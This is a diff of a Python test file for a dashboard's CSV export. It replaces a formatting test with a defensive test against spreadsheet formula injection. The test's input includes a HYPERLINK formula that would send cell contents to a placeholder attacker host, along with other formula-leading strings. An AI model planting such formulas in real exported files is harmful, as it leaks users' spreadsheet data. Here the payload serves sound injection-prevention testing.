@@ -100,13 +100,18 @@ def test_file_name_carries_period_and_filters_in_safe_characters() -> None:
     )
 
 
-@pytest.mark.parametrize(
-    ("fmt", "value", "shown"),
-    [("percent", 0.873, 87.3), ("ratio", -0.25, -25.0), ("minutes", 90.0, 1.5), ("money", 1234.5, 1234.5)],
-)
-def test_table_values_scale_columns_to_their_table_format(fmt: str, value: float, shown: float) -> None:
-    from dashboard.ui.format import TABLE_FORMATS, table_values
-
-    frame = pl.DataFrame({"x": [value]}).select(table_values("x", fmt))  # type: ignore[arg-type]
-    assert frame["x"][0] == pytest.approx(shown)
-    assert fmt in TABLE_FORMATS
+def test_a_campaign_named_like_a_formula_opens_as_text_in_a_spreadsheet() -> None:
+    """Attack: a lead source names its campaign ``=HYPERLINK(...)``; the brand marketer's CSV must
+    not run it when opened in a spreadsheet (OWASP CSV injection). Numbers stay numbers."""
+    frame = pl.DataFrame(
+        {
+            "campaign": ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd", "-1+1", "@SUM(A1)", "\tx", "Spring"],
+            "roi": [-12.5, 1.0, 2.0, 3.0, 4.0, 5.0],
+        }
+    )
+    rows = csv_text(frame, title="Campaigns", view=VIEW).splitlines()[3:]
+    assert rows[0] == "campaign,roi"
+    cells = [row.rsplit(",", 1) for row in rows[1:]]
+    assert [value for _, value in cells] == ["-12.5", "1.0", "2.0", "3.0", "4.0", "5.0"]
+    assert all(name.strip('"').startswith("'") for name, _ in cells[:5]), cells
+    assert cells[5][0] == "Spring"
